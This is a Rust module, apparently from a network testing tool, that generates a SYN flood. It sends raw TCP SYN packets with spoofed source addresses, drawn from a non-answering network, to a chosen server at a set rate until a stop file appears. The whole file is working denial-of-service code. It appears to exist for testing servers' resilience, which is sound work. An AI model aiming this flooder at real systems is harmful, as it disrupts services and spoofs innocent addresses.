// SPDX-License-Identifier: GPL-2.0-only
//! A SYN flood: connections are begun from addresses that are nobody's, at a
//! steady pace, and never finished.

use std::net::{IpAddr, SocketAddrV4};
use std::path::PathBuf;
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::{Result, bail};
use etherparse::PacketBuilder;
use fastrand::Rng;
use ipnet::IpNet;
use pnet_datalink::MacAddr;

use crate::inject::Sender;
use crate::sources::Sources;

/// What to send, and how much of it.
#[derive(clap::Args)]
pub(crate) struct Args {
    /// The interface.
    #[arg(long)]
    dev: String,
    /// The MAC to send from.
    #[arg(long)]
    from_mac: MacAddr,
    /// The virtual MAC.
    #[arg(long)]
    to_mac: MacAddr,
    /// ADDRESS:PORT of the server.
    #[arg(long)]
    to: SocketAddrV4,
    /// A network of which no address answers.
    #[arg(long)]
    from: IpNet,
    /// SYNs each second.
    #[arg(long)]
    per_second: u32,
    /// The flood ends once this file exists.
    #[arg(long)]
    until: PathBuf,
}

/// How often what is due is sent.
const TICK: Duration = Duration::from_millis(10);

/// After a pause of the machine no more than this is made up for.
const BURST_MAX: u64 = 100;

/// Flood, and print how many SYNs were sent.
pub(crate) fn run(args: &Args) -> Result<()> {
    let mut sender = Sender::open(&args.dev)?;
    let mut sources = Sources::new(args.from, 0);
    let mut rng = Rng::with_seed(1);
    let began = Instant::now();
    let mut due_before = 0;
    while !args.until.exists() {
        let due = began.elapsed().as_millis() as u64 * u64::from(args.per_second) / 1000;
        for _ in 0..(due - due_before).min(BURST_MAX) {
            let IpAddr::V4(client) = sources.next() else {
                bail!("--from is an IPv4 network");
            };
            let mut frame = Vec::new();
            PacketBuilder::ethernet2(args.from_mac.octets(), args.to_mac.octets())
                .ipv4(client.octets(), args.to.ip().octets(), 64)
                .tcp(rng.u16(1024..), args.to.port(), rng.u32(..), 64_000)
                .syn()
                .write(&mut frame, &[])?;
            sender.send(&frame)?;
        }
        due_before = due;
        sleep(TICK);
    }
    println!("{{\"sent\":{}}}", sender.sent);
    Ok(())
}
